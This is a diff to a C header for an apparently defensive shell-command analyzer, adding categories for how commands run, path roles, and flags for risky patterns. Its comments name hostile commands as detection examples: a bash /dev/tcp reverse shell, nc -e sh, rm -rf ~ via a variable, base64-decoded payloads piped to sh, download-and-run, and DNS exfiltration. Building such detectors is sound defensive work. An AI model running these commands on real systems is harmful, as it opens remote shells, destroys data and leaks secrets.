@@ -63,12 +63,21 @@ enum {
 
 /* Where a simple command was found. */
 typedef enum pe_shell_origin {
-    PE_SHELL_TOP,     /* the command text itself (also subshells, groups, bodies) */
-    PE_SHELL_CMDSUB,  /* $(...), `...`, or expanded in an unquoted here-doc */
-    PE_SHELL_PROCSUB, /* <(...) or >(...) */
-    PE_SHELL_STRING,  /* a string run as a script: sh -c, eval, su -c, watch, env -S */
-    PE_SHELL_HEREDOC, /* a here-doc or here-string run by a shell */
-    PE_SHELL_EXEC     /* find -exec / -execdir / -ok / -okdir */
+    PE_SHELL_TOP,      /* the command text itself (also subshells, groups, bodies) */
+    PE_SHELL_CMDSUB,   /* $(...), `...`, or expanded in an unquoted here-doc */
+    PE_SHELL_PROCSUB,  /* <(...) or >(...) */
+    PE_SHELL_STRING,   /* a string run as a script: sh -c, eval, su -c, watch, env -S,
+                          git -c core.sshCommand=..., sed's e command, vim -c '!...' */
+    PE_SHELL_HEREDOC,  /* a here-doc or here-string run by a shell */
+    PE_SHELL_EXEC,     /* find -exec / -execdir / -ok / -okdir, xargs and parallel
+                          with arguments known from their input */
+    PE_SHELL_EXPANDED, /* a command whose words were variables of known value:
+                          W='rm -rf ~'; $W */
+    PE_SHELL_INLINE,   /* run by interpreter code: python -c 'os.system("...")' */
+    PE_SHELL_DECODED,  /* a decoded payload run by a shell: echo ... | base64 -d | sh */
+    PE_SHELL_FILE,     /* a script the same command line wrote and then runs */
+    PE_SHELL_REMOTE    /* run on another host or in a container: ssh host cmd,
+                          docker exec c cmd, kubectl exec p -- cmd */
 } pe_shell_origin;
 
 /* Redirection flags (in addition to the target's word flags). */
@@ -94,8 +103,38 @@ enum {
     PE_SHELL_C_RUNS_OUTPUT = 1u << 2, /* an interpreter whose program is another command's
                                          output: x | sh, sh <(x), sh -c "$(x)", eval "$(x)" */
     PE_SHELL_C_INTERPRETER = 1u << 3, /* a shell or language interpreter (sh, python, ...) */
-    PE_SHELL_C_CODE = 1u << 4         /* runs code given in its arguments or a here-doc */
+    PE_SHELL_C_CODE = 1u << 4,        /* runs code given in its arguments or a here-doc */
+    PE_SHELL_C_RESOLVED = 1u << 5,    /* its words were rebuilt from known values into
+                                         another command (origin EXPANDED), which is what
+                                         runs: this one is not reported on its own */
+    PE_SHELL_C_DOWNLOADED = 1u << 6   /* runs a file the command line downloaded */
 };
+
+/* Roles of a path a command uses (pe_shell_path.role). */
+enum {
+    PE_SHELL_P_READ = 1u << 0,   /* its content is read (cat, cp's sources, < file) */
+    PE_SHELL_P_WRITE = 1u << 1,  /* written or changed (> file, tee, cp's target, chmod) */
+    PE_SHELL_P_DELETE = 1u << 2, /* deleted (rm, rmdir, shred, find -delete, mv's sources) */
+    PE_SHELL_P_EXEC = 1u << 3,   /* run as a program or script (bash f, ./f, source f) */
+    PE_SHELL_P_UPLOAD = 1u << 4, /* sent over the network (curl -T f, -d @f, scp f host:) */
+    PE_SHELL_P_LIST = 1u << 5    /* only its name or metadata is read (ls, stat, find) */
+};
+/* Path flags. */
+enum {
+    PE_SHELL_P_UNKNOWN = 1u << 0, /* holds an expansion whose value is not known */
+    PE_SHELL_P_GLOB = 1u << 1,    /* holds an unquoted glob: names more than one file */
+    PE_SHELL_P_REMOTE = 1u << 2   /* on another host (scp host:path) */
+};
+
+/* A path a command line uses, as far as it is known without running it:
+ * ~, $HOME and variables assigned earlier in the command line replaced. */
+typedef struct pe_shell_path {
+    pe_str path;
+    pe_str cwd;     /* the directory a relative path is relative to, as cd left it: ""
+                       for the command's own directory, else absolute or relative to it */
+    unsigned role;  /* PE_SHELL_P_READ ... */
+    unsigned flags; /* PE_SHELL_P_UNKNOWN ...; a cwd that is not known is UNKNOWN */
+} pe_shell_path;
 
 typedef struct pe_shell_cmd {
     pe_str name;          /* command word after wrappers, quotes removed; "" when none
@@ -105,6 +144,8 @@ typedef struct pe_shell_cmd {
     const pe_str *argv;   /* the executed argv: argv[0] is name (argc 0 when none) */
     const unsigned *argf; /* word flags of each argv word */
     size_t argc;
+    size_t subidx;       /* argv index of the subcommand (git -C r reset: 3), 0 when none */
+    size_t nsub;         /* words of the subcommand path ("stash drop": 2) */
     const pe_str *words; /* every word as written (assignments and wrappers too) */
     const unsigned *wordf;
     size_t nwords;
@@ -124,10 +165,18 @@ enum {
     PE_SHELL_PARSE_ERROR = 1u << 2,    /* malformed: unterminated quote, here-doc, ... */
     PE_SHELL_LIMIT = 1u << 3,          /* a limit was reached (LIMIT_* below) */
     PE_SHELL_LIMIT_DEPTH = 1u << 4,
-    PE_SHELL_LIMIT_COUNT = 1u << 5, /* commands or words */
-    PE_SHELL_LIMIT_WORK = 1u << 6,  /* work budget or input size */
-    PE_SHELL_CR = 1u << 7,          /* a CR or NUL byte outside quotes (also a parse error) */
-    PE_SHELL_LIMIT_MEMORY = 1u << 8 /* memory budget */
+    PE_SHELL_LIMIT_COUNT = 1u << 5,   /* commands or words */
+    PE_SHELL_LIMIT_WORK = 1u << 6,    /* work budget or input size */
+    PE_SHELL_CR = 1u << 7,            /* a CR or NUL byte outside quotes (also a parse error) */
+    PE_SHELL_LIMIT_MEMORY = 1u << 8,  /* memory budget */
+    PE_SHELL_REVERSE_SHELL = 1u << 9, /* a shell's input and output go to a network peer:
+                                         bash -i >& /dev/tcp/h/p 0>&1, nc -e sh, socat exec: */
+    PE_SHELL_LISTEN = 1u << 10,       /* something listens for connections: nc -l, ssh -R */
+    PE_SHELL_UPLOAD = 1u << 11,       /* files or command output are sent to a host */
+    PE_SHELL_DNS_EXFIL = 1u << 12,    /* a DNS lookup of a name holding a substitution */
+    PE_SHELL_ELSEWHERE = 1u << 13,    /* commands run on another host or in a container */
+    PE_SHELL_DECODES = 1u << 14,      /* an encoded payload is decoded into an interpreter */
+    PE_SHELL_RUNS_DOWNLOAD = 1u << 15 /* a downloaded file is run (curl -o x.sh ..; sh x.sh) */
 };
 
 typedef struct pe_shell_result {
@@ -145,6 +194,26 @@ typedef struct pe_shell_result {
     size_t ntargets;
     const pe_str *writes; /* targets of writing redirections */
     size_t nwrites;
+    /* Facts from the command knowledge (knowledge.c): every path used, in
+     * order, with its role (duplicates merged, roles joined); subcommands
+     * ("git reset", "docker run"); URLs and hosts (normalised, lib/util/host.h);
+     * variables given to commands or exported ("GIT_SSH_COMMAND=ssh -i k");
+     * languages of inline interpreter code ("python"); decoded payloads
+     * that reach an interpreter. */
+    const pe_shell_path *paths;
+    size_t npaths;
+    const pe_str *subcommands;
+    size_t nsubcommands;
+    const pe_str *urls;
+    size_t nurls;
+    const pe_str *hosts;
+    size_t nhosts;
+    const pe_str *env;
+    size_t nenv;
+    const pe_str *languages;
+    size_t nlanguages;
+    const pe_str *decoded;
+    size_t ndecoded;
     /* One line per command with a name or redirections: the executed argv
      * joined by single spaces, then "op target" per redirection. Inside a
      * word, backslash, space, tab, CR and newline are written \\ \  \t \r \n
@@ -159,6 +228,16 @@ typedef struct pe_shell_result {
  * the result, not as errors - PREMPTI_E_NOMEM, or PREMPTI_E_INVALID_ARG.
  */
 int pe_shell_analyze(pe_shell_result **out, const char *cmd, size_t len, pe_arena *arena);
+
+/* What the analysis may assume about where the command runs. */
+typedef struct pe_shell_env {
+    const char *home; /* for ~ and $HOME; NULL or "" when unknown */
+} pe_shell_env;
+
+/* pe_shell_analyze() with what is known of the environment (env may be
+ * NULL: nothing). */
+int pe_shell_analyze_env(pe_shell_result **out, const char *cmd, size_t len,
+                         const pe_shell_env *env, pe_arena *arena);
 
 /*
  * The normalised flags of every command whose base is name (len bytes):
